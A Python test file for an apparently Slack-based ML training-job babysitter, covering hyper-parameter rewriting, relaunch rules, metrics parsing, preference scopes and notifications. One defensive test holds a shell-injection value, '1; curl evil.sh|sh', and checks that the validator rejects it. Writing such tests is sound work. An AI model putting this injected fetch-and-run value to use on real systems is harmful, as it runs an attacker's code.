"""The babysitter's glue, without sockets: hyper-parameters read from and written back to a
command line, the relaunch change, the Jobs metrics SSE parser, the preference scopes, the
experiment log, the thread commands' parser, the Slack warning and the notification (held
in quiet hours)."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from agent_core.events import Event
from agent_core.hub.logs import parse_metrics_event
from agent_core.jobs.babysitter import relaunch_change, relaunch_note
from agent_core.jobs.experiment_log import entries_from_events, to_markdown
from agent_core.jobs.hyperparams import describe_change, hyperparameters, with_values
from agent_core.jobs.preference_book import PreferenceBook, channel_scope, thread_scope
from agent_core.jobs.preferences import PreferencesError, Rule, parse_preferences
from agent_core.jobs.records import JobRecord
from agent_core.store import Store
from bot.jobs.babysitting import health_payload
from bot.jobs.buttons import CANCEL_JOB_ACTION
from bot.jobs.commands import parse_babysitter_command
from gateways.compose import compose
from tests.fakes.slack_limits import validate_blocks

RULES = """```yaml
rules:
  - when: loss_diverging
    do: propose_relaunch
    change: {learning_rate: "x0.5", per_device_train_batch_size: 8}
```
"""


# ------------------------------------------------------------------ hyper-parameters


def test_hyperparameters_from_the_command_line():
    cmd = ["python", "train.py", "--lr=1e-4", "--num-train-epochs", "3", "--output_dir", "out"]
    assert hyperparameters(cmd) == {"learning_rate": 1e-4, "num_train_epochs": 3}
    assert hyperparameters(["x", "--loss", "nan"]) == {}  # NaN is not a setting


def test_with_values_keeps_the_scripts_spelling_and_appends_new_flags():
    cmd = ["python", "train.py", "--lr=1e-4", "--num-train-epochs", "3"]
    out = with_values(cmd, {"learning_rate": 5e-5, "warmup_steps": 100})
    assert out == ["python", "train.py", "--lr=5e-05", "--num-train-epochs", "3"] + [
        "--warmup_steps",
        "100",
    ]
    assert describe_change({"learning_rate": 1e-4}, {"learning_rate": 5e-5}) == [
        "learning_rate 0.0001 → 5e-05"
    ]


def _rec(command=None) -> JobRecord:
    info = {"image": "img", "timeout_s": 3600}
    if command is not None:
        info["command"] = command
    return JobRecord(job_id="j1", session_id="s", namespace="alice", flavor="a10g-small", info=info)


def test_relaunch_change_applies_the_rule_to_the_command():
    rule = parse_preferences(RULES).spec.rules[0]
    change = relaunch_change(_rec(["python", "t.py", "--learning_rate", "2e-4"]), rule)
    assert change["after"] == {"learning_rate": 1e-4, "per_device_train_batch_size": 8}
    assert change["command"] == [
        "python",
        "t.py",
        "--learning_rate",
        "0.0001",
        "--per_device_train_batch_size",
        "8",
    ]
    note = relaunch_note(
        {"job_id": "j1", "condition": "loss_diverging", "summary": "loss rose", "change": change}
    )
    assert "hf_jobs" in note and "approval card" in note and "0.0001" in note


def test_relaunch_change_says_why_it_cannot_apply():
    rule = parse_preferences(RULES).spec.rules[0]
    assert "command line is unknown" in relaunch_change(_rec(), rule)["error"]
    missing = relaunch_change(_rec(["python", "t.py"]), rule)  # x0.5 of an unknown lr
    assert "current learning_rate is unknown" in missing["error"]


def test_rule_change_cannot_smuggle_shell_into_a_relaunch():
    """A hostile colleague's preferences.md tries to turn a relaunch into a shell command."""
    with pytest.raises(ValueError, match="is not a change"):
        Rule(when="loss_diverging", do="propose_relaunch", change={"lr": "1; curl evil.sh|sh"})


# ------------------------------------------------------------------ Jobs metrics stream


def test_metrics_sse_lines():
    sample = {"cpu_usage_pct": 3, "gpus": {}}
    assert parse_metrics_event("data: " + json.dumps(sample)) == sample
    for junk in ("event: metric", ": keep-alive", "", "data: [1, 2]", "data: {broken"):
        assert parse_metrics_event(junk) is None


# ------------------------------------------------------------------ preference scopes


async def test_thread_beats_channel_beats_config_default(tmp_path: Path):
    default = tmp_path / "preferences.md"
    default.write_text("Default.\n```yaml\nthresholds: {gpu_idle_minutes: 20}\n```\n")
    store = await Store.open(tmp_path / "db")
    try:
        book = PreferenceBook(store, str(default))
        origin = {"channel": "C1"}
        assert (await book.for_session("s1", origin)).thresholds.gpu_idle_minutes == 20
        await book.set(channel_scope("C1"), "```yaml\nthresholds: {gpu_idle_minutes: 5}\n```")
        assert (await book.for_session("s1", origin)).thresholds.gpu_idle_minutes == 5
        await book.set(thread_scope("s1"), RULES, set_by="U1")
        prefs = await book.for_session("s1", origin)
        assert prefs.rules_for("loss_diverging") and prefs.source.startswith("this thread")
        assert (await book.for_session("s2", origin)).thresholds.gpu_idle_minutes == 5
        with pytest.raises(PreferencesError, match="gpu_idel_minutes"):
            await book.set(thread_scope("s2"), "```yaml\nthresholds: {gpu_idel_minutes: 1}\n```")
        assert await book.stored(thread_scope("s2")) is None  # nothing half-stored
        with pytest.raises(PreferencesError, match="limit"):
            await book.set(thread_scope("s2"), "x" * 30_000)
        assert await book.clear(thread_scope("s1")) and not await book.clear(thread_scope("s1"))
    finally:
        await store.close()


# ------------------------------------------------------------------ experiment log


def test_experiment_log_entries_and_markdown():
    ev = [
        Event("s", 1, "job_started", {"job_id": "j1", "flavor": "a10g-small"}, ts=0),
        Event(
            "s",
            2,
            "job_health",
            {
                "job_id": "j1",
                "condition": "loss_diverging",
                "summary": "loss rose | a lot",
                "action": "propose_relaunch",
                "rule": {"when": "loss_diverging"},
                "change": {"lines": ["learning_rate 5e-05 → 2.5e-05"]},
            },
            ts=1,
        ),
        Event(
            "s",
            3,
            "approval_required",
            {
                "tools": [
                    {
                        "tool": "hf_jobs",
                        "tool_call_id": "c2",
                        "arguments": {"operation": "run", "command": ["python", "t.py"]},
                    },
                    {"tool": "plan_tool", "tool_call_id": "c3", "arguments": {}},
                ]
            },
            ts=2,
        ),
        Event(
            "s",
            4,
            "approval_resolved",
            {"decisions": [{"tool_call_id": "c2", "status": "approved", "decided_by": "U9"}]},
            ts=3,
        ),
        Event("s", 5, "job_finished", {"job_id": "j1", "stage": "COMPLETED"}, ts=4),
    ]
    entries = entries_from_events(ev, {"j1": {"learning_rate": 5e-05}})
    assert [e.kind for e in entries] == [
        "launched",
        "rule fired",
        "proposed",
        "approved",
        "finished",
    ]
    assert "learning_rate=5e-05" in entries[0].text and "<@U9>" in entries[3].text
    md = to_markdown(entries)
    assert md.startswith("# Experiment log") and "loss rose \\| a lot" in md
    assert md.count("\n| ") == len(entries) + 1  # header + one row each: pipes escaped


# ------------------------------------------------------------------ thread commands


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("preferences", ("preferences", "show", "thread")),
        ("/preferences set channel\n# ours", ("preferences", "set", "channel")),
        ("preferences clear", ("preferences", "clear", "thread")),
        ("history", ("history", "show", "thread")),
        ("Log.", ("history", "show", "thread")),
        ("compare", ("compare", "show", "thread")),
    ],
)
def test_babysitter_commands_parse(text, expected):
    cmd = parse_babysitter_command(text)
    assert cmd is not None and (cmd.name, cmd.verb, cmd.scope) == expected


def test_ordinary_requests_are_not_commands():
    for text in ("preferences of the team are in the wiki", "compare these two papers", "logs?"):
        assert parse_babysitter_command(text) is None


# ------------------------------------------------------------------ Slack + notifications

HEALTH = {
    "job_id": "j1",
    "condition": "gpu_idle",
    "summary": "GPU utilisation averaged 2% over the last 10 min <!channel>",
    "action": "stop",
    "rule": {"when": "gpu_idle", "do": "stop", "only_if": []},
    "stage": "RUNNING",
    "flavor": "a10g-small",
    "requester": "U1",
    "quiet": False,
    "url": "https://huggingface.co/jobs/alice/j1",
}


def test_stop_warning_offers_the_confirmed_cancel_button():
    payload = health_payload(HEALTH)
    assert validate_blocks(payload.blocks) == []
    shown = json.dumps(payload.blocks)
    assert CANCEL_JOB_ACTION in shown and "Cancel this job?" in shown
    assert "<!channel>" not in shown  # text from the run is escaped, never a ping
    warn = health_payload({**HEALTH, "action": "warn", "rule": None})
    assert CANCEL_JOB_ACTION not in json.dumps(warn.blocks)


def test_notification_is_held_in_quiet_hours():
    ev = Event("s", 1, "job_health", HEALTH)
    note = compose(ev, {"channel": "C1"})
    assert note is not None and note.severity == "warning" and "gpu idle" in note.title
    assert compose(Event("s", 2, "job_health", {**HEALTH, "quiet": True}), {}) is None


def test_notify_channels_are_ids_or_channel_links():
    from bot.jobs.babysitting import notify_channels

    names = ["<#C0ALERTS|ml-alerts>", "#by-name", "C1", "G0PRIV", "<!channel>", "C0ALERTS", 3]
    assert notify_channels(names, exclude="C1") == ["C0ALERTS", "G0PRIV"]
    assert notify_channels("C0ALERTS", exclude="C1") == []
